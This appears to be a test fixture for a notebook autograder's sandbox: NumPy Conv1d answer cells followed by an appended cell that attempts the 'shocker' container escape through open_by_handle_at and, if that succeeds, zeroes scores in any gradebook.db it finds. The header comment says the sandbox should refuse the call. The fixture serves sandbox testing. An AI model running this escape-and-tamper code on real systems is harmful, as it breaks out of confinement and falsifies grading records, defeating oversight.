# Hostile (found by red-teaming, class 1/2): with the grader running as root, a sandbox that keeps root's capabilities
# lets the kernel open the host's root directory with open_by_handle_at (CAP_DAC_READ_SEARCH, the "shocker" escape)
# and rewrite any gradebook it finds. The sandbox runs as an unprivileged user in a user namespace of its own with
# every capability dropped, and seccomp refuses open_by_handle_at: EPERM, no capability, nothing found or changed.
# expect: test_predict=1 test_signature_weight=1 test_output_shape=1 test_values=2
# %% answer predict_answer
predicted_shape = (4, 8, 28)
# %% answer conv1d_answer
import numpy as np
from numpy.lib.stride_tricks import sliding_window_view


class Conv1d:
    def __init__(self, in_channels, out_channels, kernel_size):
        self.in_channels, self.out_channels, self.kernel_size = in_channels, out_channels, kernel_size
        self.weight = np.zeros((out_channels, in_channels, kernel_size))
        self.bias = None

    def forward(self, x):
        windows = sliding_window_view(x, self.kernel_size, axis=2)   # (N, C_in, L_out, K)
        return np.einsum("nctk,ock->not", windows, self.weight)

    def __call__(self, x):
        return self.forward(x)
# %% append
import ctypes, os, sqlite3
print("caps:", [l for l in open("/proc/self/status").read().splitlines() if l.startswith(("Uid", "CapEff"))])
libc = ctypes.CDLL(None, use_errno=True)


class FileHandle(ctypes.Structure):
    _fields_ = [("handle_bytes", ctypes.c_uint), ("handle_type", ctypes.c_int), ("f_handle", ctypes.c_ubyte * 8)]


handle = FileHandle(8, 1, (ctypes.c_ubyte * 8)(2, 0, 0, 0, 0, 0, 0, 0))   # FILEID_INO32_GEN, inode 2: the fs root
root = libc.open_by_handle_at(os.open(".", os.O_RDONLY), ctypes.byref(handle), os.O_RDONLY | os.O_DIRECTORY)
print("open_by_handle_at:", root, os.strerror(ctypes.get_errno()) if root < 0 else "ESCAPED")
if root >= 0:
    os.fchdir(root)
    for folder, dirs, files in os.walk("."):
        if folder.count(os.sep) > 6:
            dirs[:] = []
        if "gradebook.db" in files:
            db = sqlite3.connect(os.path.join(folder, "gradebook.db"))
            db.execute("update grade set manual_score = 0")
            db.commit()
            print("gradebook rewritten:", folder)
